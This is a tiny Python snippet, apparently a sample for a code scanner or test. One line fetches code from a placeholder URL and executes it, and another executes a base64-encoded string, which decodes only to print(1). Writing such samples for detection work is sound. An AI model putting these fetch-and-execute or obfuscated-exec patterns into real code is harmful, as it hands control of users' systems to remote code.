import urllib.request
exec(urllib.request.urlopen("http://x").read())
exec(base64.b64decode("cHJpbnQoMSk="))
